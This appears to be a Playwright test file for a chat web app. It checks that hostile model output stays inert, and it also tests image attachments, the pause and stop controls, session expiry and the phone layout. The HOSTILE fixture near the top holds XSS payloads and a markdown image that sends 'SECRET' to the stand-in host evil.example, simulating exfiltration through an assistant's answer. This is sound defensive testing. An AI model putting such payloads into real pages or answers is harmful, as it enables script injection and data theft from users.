"""What the chat page does with what it is sent: a hostile answer renders as inert text and
makes the browser fetch nothing; images the user attaches reach a model that sees images; the
paused state and the stop button; session expiry; the layout on a phone."""

from __future__ import annotations

import base64
import re

import pytest
from jarvis.providers.base import ImageBlock
from jarvis.testing.clients import create_user
from jarvis.testing.plugins import ModelPlugin
from jarvis.testing.scripted import ScriptedProvider, call, hang, reply
from playwright.sync_api import expect

from tests.support.tools import lookup
from tests.ui.server import UiServer
from tests.ui.walk import PASSWORD, answers, log_in, send

EVIL = "evil.example"
HOSTILE = f"""Here is your summary.

<script>window.__pwned = "script"</script>
<img src="https://{EVIL}/leak?d=SECRET" onerror="window.__pwned = 'img'">
<a href="https://{EVIL}/" onclick="window.__pwned = 'click'">plain html link</a>
<iframe src="https://{EVIL}/frame"></iframe> <svg onload="window.__pwned = 'svg'"></svg>

[click me](javascript:window.__pwned='js-link') and [data link](data:text/html,hi)

![exfiltrate](https://{EVIL}/pixel.png?data=SECRET)

**bold <b onmouseover="window.__pwned='b'">tag</b>** and `<script>in code</script>`
"""
# A 1x1 PNG.
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


@pytest.fixture(scope="module")
def model():
    return ScriptedProvider(id="fake", models=("echo",))


@pytest.fixture(scope="module")
def server(tmp_path_factory, model):
    srv = UiServer(tmp_path_factory.mktemp("ui"), [ModelPlugin(model, tools=[lookup()])])
    srv.call(create_user(srv.app, "ann", PASSWORD))
    srv.call(create_user(srv.app, "root", PASSWORD, role="admin"))
    yield srv
    srv.close()


def test_a_hostile_answer_renders_as_inert_text_and_loads_nothing(server, model, open_page):
    page, watch = open_page(server)
    log_in(page, server, "ann")
    page.goto(server.url + "/#/chat")
    expect(page.locator(".conn")).to_have_text("connected")
    model.script(reply("", call("lookup", {"text": f'<img src="https://{EVIL}/t.png">'})),
                 reply(HOSTILE))
    send(page, "Summarise my mail")
    answer = answers(page).last
    expect(answer).to_contain_text("in code")
    messages = page.locator(".messages")
    # the markup is there as text...
    expect(answer).to_contain_text('<script>window.__pwned = "script"</script>')
    expect(answer).to_contain_text("onerror=")
    expect(page.locator(".tool[data-tool=lookup]")).to_contain_text(f"https://{EVIL}/t.png")
    # ...and nothing of it became an element
    for tag in ("script", "img", "iframe", "svg", "b", "object", "embed"):
        assert messages.locator(tag).count() == 0, tag
    assert page.evaluate("window.__pwned") is None
    # javascript: and data: links stay text; the image is a plain link, never loaded
    assert messages.locator("a:has-text('click me')").count() == 0
    assert messages.locator("a:has-text('data link')").count() == 0
    image = messages.locator("a.image-link")
    expect(image).to_have_text("image: exfiltrate")
    assert image.get_attribute("href") == f"https://{EVIL}/pixel.png?data=SECRET"
    assert set(image.get_attribute("rel").split()) >= {"noopener", "noreferrer"}
    for link in messages.locator("a").all():
        assert link.get_attribute("href").startswith("https://")
    answer.hover()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert watch.errors == []
    assert watch.outside() == []
    assert not [u for u in watch.requests if EVIL in u]


def test_an_attached_image_reaches_a_model_that_sees_images(server, model, open_page):
    page, watch = open_page(server)
    log_in(page, server, "ann")
    page.goto(server.url + "/#/chat")
    expect(page.locator(".conn")).to_have_text("connected")
    expect(page.locator("button.attach")).to_be_enabled()
    page.set_input_files("input[name=attachments]", files=[
        {"name": "dot.png", "mimeType": "image/png", "buffer": PIXEL}])
    expect(page.locator(".attachments img")).to_have_count(1)
    model.script(reply("A single dot."))
    send(page, "What is in this picture?")
    expect(answers(page).last).to_contain_text("A single dot.")
    blocks = model.requests[-1].messages[-1].content
    images = [b for b in blocks if isinstance(b, ImageBlock)]
    assert len(images) == 1 and images[0].media_type == "image/png"
    assert watch.errors == [] and watch.outside() == []


def test_paused_then_resumed_and_a_run_stopped(server, model, open_page):
    admin, admin_watch = open_page(server)
    log_in(admin, server, "root")
    admin.goto(server.url + "/#/admin")
    admin.click("#run-state button:has-text('Pause')")
    expect(admin.locator("#run-state")).to_contain_text("paused")

    page, watch = open_page(server)
    log_in(page, server, "ann")
    page.goto(server.url + "/#/chat")
    expect(page.locator(".paused")).to_be_visible()
    send(page, "Hello?")
    expect(page.locator(".messages .notice.error")).to_contain_text("paused")

    admin.click("#run-state button:has-text('Resume')")
    expect(admin.locator("#run-state")).to_contain_text("running")
    model.script(hang(5, after_text="Thinking about it"), reply("too late"))
    send(page, "Think hard")
    expect(answers(page).last).to_contain_text("Thinking about it")
    page.click(".composer button:has-text('Stop')")
    expect(page.locator(".run-end")).to_have_text("Stopped.")
    expect(page.locator(".composer button:has-text('Stop')")).to_be_hidden()
    for w in (watch, admin_watch):
        assert w.errors == [] and w.outside() == []


def test_an_ended_session_sends_the_user_to_login(server, open_page):
    page, _watch = open_page(server)
    log_in(page, server, "ann")
    page.goto(server.url + "/#/agents")
    expect(page.locator("h1")).to_have_text("Agents")
    resp = page.request.post(server.url + "/api/auth/logout", headers={"Origin": server.url})
    assert resp.status == 200
    page.click("#nav a:has-text('Tasks')")
    expect(page).to_have_url(re.compile(r"#/login\?next=%2Ftasks&expired=1$"))
    expect(page.locator(".notice.info")).to_contain_text("Your session has ended")
    log_in(page, server, "ann")
    expect(page).to_have_url(re.compile(r"#/tasks$"))


def test_on_a_phone_the_menu_folds_and_nothing_overflows(server, open_page):
    page, watch = open_page(server, mobile=True)
    log_in(page, server, "ann")
    page.goto(server.url + "/#/chat")
    expect(page.locator("#nav")).to_be_hidden()
    page.click("#menu-toggle")
    expect(page.locator("#nav a:has-text('Agents')")).to_be_visible()
    page.click("#nav a:has-text('Models')")
    expect(page.locator("#nav")).to_be_hidden()
    expect(page.locator("td", has_text="fake:echo")).to_be_visible()
    for path in ("/#/chat", "/#/models", "/#/settings"):
        page.goto(server.url + path)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
    assert watch.errors == [] and watch.outside() == []
